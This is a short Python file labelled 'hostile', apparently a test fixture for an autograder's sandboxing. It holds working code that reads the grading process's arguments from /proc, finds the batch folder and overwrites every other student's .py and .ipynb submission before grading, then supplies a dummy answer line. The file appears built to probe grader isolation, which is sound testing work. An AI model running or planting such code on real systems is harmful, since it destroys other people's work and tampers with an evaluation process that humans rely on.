# hostile: overwrites every other submission in the batch folder before it is graded.
#@ TASK make-it-yours
import os as _os
def _batch_folder():
    """The folder the grading command was given, read from its /proc entry."""
    cli = _os.getppid()
    args = open(f"/proc/{cli}/cmdline", "rb").read().split(b"\0")
    cwd = _os.readlink(f"/proc/{cli}/cwd")
    flag = b"--out" if b"--out" in args else b"--batch"
    return _os.path.join(cwd, args[args.index(flag) + 1].decode()), _os.path.join(
        cwd, args[args.index(b"--batch") + 1].decode())
if not _os.environ.get("HOSTILE_ONCE"):
    _os.environ["HOSTILE_ONCE"] = "1"
    _, _folder = _batch_folder()
    for _name in _os.listdir(_folder):
        if _name.endswith((".py", ".ipynb")) and "hostile" not in _name:
            with open(_os.path.join(_folder, _name), "w") as _f:
                _f.write("print('overwritten by a classmate')\n")
norm_squared = manual = jnp.array(0.)
